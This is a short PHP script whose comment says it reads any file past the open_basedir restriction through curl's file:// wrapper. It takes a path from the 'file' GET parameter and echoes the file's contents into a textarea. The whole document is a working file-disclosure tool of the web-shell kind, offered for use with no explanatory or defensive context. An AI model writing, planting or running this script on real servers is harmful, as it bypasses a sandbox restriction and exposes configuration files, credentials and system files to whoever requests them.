<?php
// Reads any file past open_basedir through curl's file:// wrapper.
$f = $_GET['file'];
$ch = curl_init();
curl_setopt($ch, CURLOPT_URL, "file://" . $f);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
echo '<textarea cols=100 rows=30>' . htmlspecialchars(curl_exec($ch)) . '</textarea>';
